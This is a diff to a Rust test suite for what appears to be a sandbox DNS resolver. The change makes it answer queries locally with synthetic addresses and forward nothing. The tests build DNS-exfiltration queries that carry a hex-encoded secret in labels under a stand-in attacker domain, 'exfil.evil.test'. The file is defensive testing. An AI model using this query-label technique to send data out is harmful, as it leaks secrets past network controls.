@@ -818,6 +818,12 @@ fn dns_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
     p
 }
 
+/// The reply's one answer is an address from the synthetic range 198.18.0.0/15.
+fn assert_synthetic(reply: &[u8]) {
+    let ip = &reply[reply.len() - 4..];
+    assert!(ip[0] == 198 && (ip[1] == 18 || ip[1] == 19), "{ip:?}");
+}
+
 /// (rcode, answer count) of a reply.
 fn dns_result(reply: &[u8]) -> (u8, u16) {
     (reply[3] & 0x0f, u16::from_be_bytes([reply[6], reply[7]]))
@@ -853,14 +859,20 @@ async fn dns_exfiltration_and_malformed_packets() {
     const NXDOMAIN: u8 = 3;
 
     // Exfiltration through query names: data in labels under any domain, in
-    // every query type, is answered NXDOMAIN locally with no records.
+    // every query type, is answered locally and forwarded nowhere. An A
+    // query gets a synthetic address (so a connection to it gets a 403 that
+    // explains), every other type no records: nothing carries data back.
     let payload = hex(SECRET.as_bytes());
     for (i, qtype) in [1u16, 16, 28, 255, 5, 15].into_iter().enumerate() {
         let name = format!("{payload}.{i}.exfil.evil.test");
         let reply = udp_ask(&socket, &dns_query(0x1000 + i as u16, &name, qtype))
             .await
             .expect("an answer");
-        assert_eq!(dns_result(&reply), (NXDOMAIN, 0), "qtype {qtype}");
+        let expect = if qtype == 1 { (0, 1) } else { (0, 0) };
+        assert_eq!(dns_result(&reply), expect, "qtype {qtype}");
+        if qtype == 1 {
+            assert_synthetic(&reply);
+        }
     }
     // A long name made of 63-byte labels (the wire maximum).
     let long: Vec<String> = (0..3).map(|_| "a".repeat(63)).collect();
@@ -870,9 +882,16 @@ async fn dns_exfiltration_and_malformed_packets() {
     )
     .await
     .unwrap();
-    assert_eq!(dns_result(&reply), (NXDOMAIN, 0));
-    // Labels under an allowed name are other names: NXDOMAIN too.
+    assert_eq!(dns_result(&reply), (0, 1));
+    assert_synthetic(&reply);
+    // Labels under an allowed name are other names: answered, never forwarded.
     let reply = udp_ask(&socket, &dns_query(8, &format!("{payload}.api.test"), 1))
+        .await
+        .unwrap();
+    assert_eq!(dns_result(&reply), (0, 1));
+    assert_synthetic(&reply);
+    // A name that is not a host name: NXDOMAIN.
+    let reply = udp_ask(&socket, &dns_query(6, "bad!name.evil.test", 1))
         .await
         .unwrap();
     assert_eq!(dns_result(&reply), (NXDOMAIN, 0));
@@ -935,7 +954,7 @@ async fn dns_exfiltration_and_malformed_packets() {
     // DNS over TCP: several queries on one connection, then a length prefix
     // that promises more than is sent (the idle timeout releases it).
     let mut tcp = TcpStream::connect(dns).await.unwrap();
-    for (id, name, expect) in [(20u16, "api.test", 0u8), (21, "evil.test", NXDOMAIN)] {
+    for (id, name, expect) in [(20u16, "api.test", 0u8), (21, "bad!name.test", NXDOMAIN)] {
         let q = dns_query(id, name, 1);
         tcp.write_all(&(q.len() as u16).to_be_bytes())
             .await
